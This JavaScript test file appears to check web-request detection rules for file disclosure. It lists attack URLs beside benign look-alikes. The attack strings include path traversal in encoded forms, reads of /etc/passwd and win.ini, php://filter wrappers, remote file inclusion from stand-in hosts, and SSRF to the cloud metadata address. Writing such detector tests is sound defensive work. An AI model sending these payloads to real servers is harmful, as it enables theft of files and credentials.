import { FILE_DISCLOSURE_RULES } from '../../src/rules/file-disclosure.js'
import { request, testTwins } from './twins.js'

testTwins(FILE_DISCLOSURE_RULES, request, [
  {
    id: 'http-path-traversal',
    attack: ['/x?f=../../../../boot', '/static/%2e%2e/%2e%2e/conf', '/x?f=../a', '/.../.../conf'],
    ordinary: ['/a/../b', '/blog/2015/...', '/x?q=wait...'],
  },
  { id: 'http-path-climb', attack: ['/css/../img/a.png'], ordinary: ['/css/a..b/img'] },
  {
    id: 'http-disguised-climb',
    attack: ['/x/..;/manager', '/x?f=....//....//a', '/x/%c0%ae%c0%ae/a../\\b'],
    ordinary: ['/get/foo.../1234', '/x?range=1..5'],
  },
  {
    id: 'http-encoded-climb',
    attack: [
      '/%252E%252E%252Ffoo1',
      '/x/..%252fconf',
      '/icons/%2e%2e/conf',
      '/x/%c0%ae%c0%ae%c0%afconf',
    ],
    ordinary: ['/css/../img/a.png', '/v1%2e2/notes'],
  },
  {
    id: 'http-system-file',
    attack: ['/x?f=/etc/passwd', '/x?f=c:\\windows\\win.ini', '/WEB-INF/web.xml'],
    ordinary: ['/blog/etcetera', '/docs/password-policy', '/windows/systems'],
  },
  {
    id: 'http-stream-wrapper',
    attack: ['/x?page=php://filter/convert.base64-encode/resource=index', '/x?u=file:///a'],
    ordinary: ['/x?page=php', '/download?file=report'],
  },
  {
    id: 'http-remote-file',
    attack: [
      '/x?page=http://198.51.100.9/a',
      '/x?page=http://evil.example/c99.txt?',
      '/x?p=http://cirt.net/rfiinc.txt??cmd=pwd',
    ],
    ordinary: [
      '/share?url=http://example.org/story/12',
      '/pin?media=http://example.org/photo.jpg&w=200',
      '/login?next=https://example.org/index.php?id=3',
    ],
  },
  {
    id: 'http-server-side-request',
    attack: [
      '/x?u=http://169.254.169.254/latest/',
      '/x?u=http://localhost:6379',
      '/x?u=gopher://a',
    ],
    ordinary: ['/x?server=localhost', '/docs/localhost', '/x?u=https://example.org/'],
  },
  {
    id: 'http-disguised-address',
    attack: [
      '/x?u=http://2852039166/',
      '/x?u=http%3A%2F%2F0xA9FEA9FE',
      '/x?u=http://0251.0376.0251.0376/',
    ],
    ordinary: ['/x?u=https://0xdeadbeef.example.org', '/x?u=https://123.example.org', '/x?t=a://7'],
  },
  {
    id: 'http-nul-byte',
    attack: ['/x?f=a%00.png', '/x?f=a%2500'],
    ordinary: ['/x?f=a%20.png', '/x?n=00'],
  },
])
